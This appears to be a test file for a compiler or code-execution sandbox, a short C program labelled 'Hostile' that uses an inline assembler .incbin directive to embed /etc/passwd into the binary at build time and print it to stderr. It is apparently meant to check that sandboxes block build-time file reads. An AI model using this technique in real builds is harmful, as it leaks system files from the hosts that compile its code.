/* Hostile: has the assembler read a file. */
__asm__(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.byte 0\n");
extern const char stolen[];

#include <stdio.h>

int main(void)
{
    fputs(stolen, stderr);
    return 0;
}
